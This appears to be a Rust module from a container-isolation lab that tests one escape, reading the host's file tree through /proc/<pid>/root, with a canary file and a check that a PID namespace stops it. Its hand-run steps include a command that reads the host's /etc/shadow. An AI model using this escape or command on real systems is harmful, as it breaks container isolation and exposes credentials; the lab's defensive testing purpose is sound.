//! proc-pid-root: walk into the host through a process of it.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::canary::canary;
use crate::inside::procfs::procfs;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::fcntl::AT_FDCWD;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "proc-pid-root",
    stake: "The host's whole file tree, through the root directory of any of its processes.",
    story: "/proc/<pid>/root is a link to the root directory of a process, and it leads there by a \
            way that no path could: a chroot of the attacker's own does not hold it. So the host's \
            canary is one open(2) away for whoever sees a process of the host. Where there is no \
            procfs the attacker mounts one, but in a PID namespace of its own a procfs shows the \
            container's processes only, and their root is the one that the attacker has already.",
    by_hand: &["mount -t proc proc /proc", "cat /proc/1234/root/etc/shadow    # a process of the host"],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["proc_pid_root(5)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[libc::SYS_mount, libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let victim = me.victim()?;
    me.decisive(&format!("open(\"/proc/{victim}/root/canary\")"));
    let found = canary(AT_FDCWD, &[&format!("{}/{victim}/root/", procfs()?)])?;
    me.bring_out(&found);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("canary") {
        return Seen::Effect("the attacker has read a file of the host through /proc".into());
    }
    Seen::Nothing
}
